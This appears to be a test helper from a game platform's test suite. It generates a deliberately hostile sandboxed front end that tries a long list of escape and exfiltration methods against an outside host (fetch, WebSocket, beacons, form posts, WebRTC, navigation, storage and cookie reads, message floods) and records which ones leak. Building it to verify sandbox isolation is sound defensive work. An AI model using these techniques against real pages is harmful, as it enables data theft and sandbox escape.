/**
 * A studio's front end that tries every way out of its sandbox, shows each outcome on screen,
 * and reports them through the one channel it has: an input over the bridge. `outside` is a
 * loopback address the test listens on, standing for any host on the internet.
 */
export function hostileFrontend(
  outside: string,
  parlorUrl: string,
  stunPort: number,
  skip: string[] = [],
): string {
  const script = String.raw`
const OUT = ${JSON.stringify(outside)}, API = ${JSON.stringify(parlorUrl)}, STUN = ${stunPort};
const seen = [], SKIP = ${JSON.stringify(skip)};
const results = {};
const show = () => {
  document.getElementById('log').textContent = Object.entries(results)
    .map(([k, v]) => k + ': ' + v).join('\n');
};
const tryIt = async (name, fn) => {
  if (SKIP.includes(name)) return;
  // Bounded, so one attempt that never settles (a blocked request may hang) cannot stall the rest.
  try { const v = await Promise.race([fn(), timeout(4000)]); results[name] = 'LEAKED ' + String(v).slice(0, 80); }
  catch (e) { results[name] = 'blocked (' + (e && e.name) + ')'; }
  show();
};
const timeout = (ms) => new Promise((_, no) => setTimeout(() => no({ name: 'Timeout' }), ms));
const event = (target, ok, bad, ms = 1500) => Promise.race([
  new Promise((yes, no) => { target.addEventListener(ok, () => yes(ok)); target.addEventListener(bad, () => no({ name: bad })); }),
  timeout(ms),
]);
async function attack() {
  await tryIt('parent.document', () => parent.document.title);
  await tryIt('top.document', () => top.document.body.innerHTML.length);
  await tryIt('parent.localStorage', () => JSON.stringify(parent.localStorage));
  await tryIt('parent.sessionStorage', () => JSON.stringify(parent.sessionStorage));
  await tryIt('localStorage', () => JSON.stringify(localStorage));
  await tryIt('sessionStorage', () => JSON.stringify(sessionStorage));
  await tryIt('indexedDB', () => new Promise((y, n) => { const r = indexedDB.open('x'); r.onsuccess = () => y('open'); r.onerror = () => n({ name: 'IDBError' }); }));
  await tryIt('document.cookie', () => { const c = document.cookie; if (!c) throw { name: 'Empty' }; return c; });
  await tryIt('fetch same origin', () => fetch('/v1/me').then((r) => r.status));
  await tryIt('fetch absolute API', () => fetch(API + '/v1/game-types').then((r) => r.status));
  await tryIt('fetch outside', () => fetch(OUT + '/fetch', { mode: 'no-cors' }).then((r) => r.type));
  await tryIt('XMLHttpRequest', () => new Promise((y, n) => { const x = new XMLHttpRequest(); x.open('GET', OUT + '/xhr'); x.onload = () => y(x.status); x.onerror = () => n({ name: 'XHRError' }); x.send(); }));
  await tryIt('sendBeacon', () => { if (!navigator.sendBeacon(OUT + '/beacon', 'x')) throw { name: 'Refused' }; return 'queued'; });
  await tryIt('WebSocket', () => event(new WebSocket(OUT.replace('http', 'ws') + '/ws'), 'open', 'error'));
  await tryIt('image beacon', () => { const i = new Image(); i.src = OUT + '/img'; return event(i, 'load', 'error'); });
  await tryIt('EventSource', () => event(new EventSource(OUT + '/sse'), 'open', 'error'));
  await tryIt('window.open', () => { const w = window.open(OUT + '/open'); if (!w) throw { name: 'NoWindow' }; return 'opened'; });
  await tryIt('top navigation', () => { top.location.href = OUT + '/top'; return 'navigated?'; });
  await tryIt('form post', () => {
    const f = document.createElement('form'); f.method = 'post'; f.action = OUT + '/form';
    document.body.append(f); f.submit(); throw { name: 'NoError' };
  });
  await tryIt('RTCPeerConnection', async () => {
    const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.2:' + STUN }] });
    pc.createDataChannel('x');
    await pc.setLocalDescription(await pc.createOffer());
    return 'created';
  });
  await tryIt('preconnect link', () => { const l = document.createElement('link'); l.rel = 'preconnect'; l.href = OUT + '/preconnect'; document.head.append(l); return event(l, 'load', 'error', 500); });
  await tryIt('prefetch link', () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = OUT + '/prefetch'; document.head.append(l); return event(l, 'load', 'error'); });
  await tryIt('worker', () => event(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'message', 'error'));
  await tryIt('child frame', () => { const f = document.createElement('iframe'); f.src = OUT + '/frame'; document.body.append(f); return event(f, 'load', 'error'); });
}
addEventListener('message', async (e) => {
  const m = e.data;
  seen.push(m);
  document.getElementById('game').textContent = 'Last from the game: ' + JSON.stringify(m).slice(0, 160);
  if (m.type === 'view' && !window.attacked) {
    window.attacked = true;
    await attack();
    parent.postMessage({ type: 'input', input: { report: results } }, '*');
    parent.postMessage({ type: 'input', input: { seen: JSON.stringify(seen).slice(0, 3000) } }, '*');
    // Not allowed, and nothing else may pass: junk, oversize inputs, a flood.
    parent.postMessage({ type: 'token?' }, '*');
    parent.postMessage({ type: 'input', input: 'x'.repeat(5000) }, '*');
    for (let i = 0; i < 200; i++) parent.postMessage({ type: 'input', input: { flood: i } }, '*');
    // Last, since they would take this document away if they worked.
    setTimeout(() => { const r = document.createElement('meta'); r.httpEquiv = 'refresh'; r.content = '0;url=' + OUT + '/refresh'; document.head.append(r); }, 5000);
    setTimeout(() => { location.href = OUT + '/self'; }, 5500);
  }
});
parent.postMessage({ type: 'ready' }, '*');
`;
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Escape artist</title>
<link rel="preconnect" href="${outside}"><link rel="dns-prefetch" href="${outside}">
<style>body{font:15px/1.4 system-ui,sans-serif;background:#151c33;color:#e8ecf7;margin:0;padding:12px}
h1{font-size:18px;margin:0 0 8px;color:#5eead4}pre{white-space:pre-wrap;margin:0;font-size:13px}</style></head>
<body><h1>Escape artist: a studio front end trying to get out</h1><p id="game">Waiting for the game…</p><pre id="log"></pre>
<script>${script}</script></body></html>`;
}
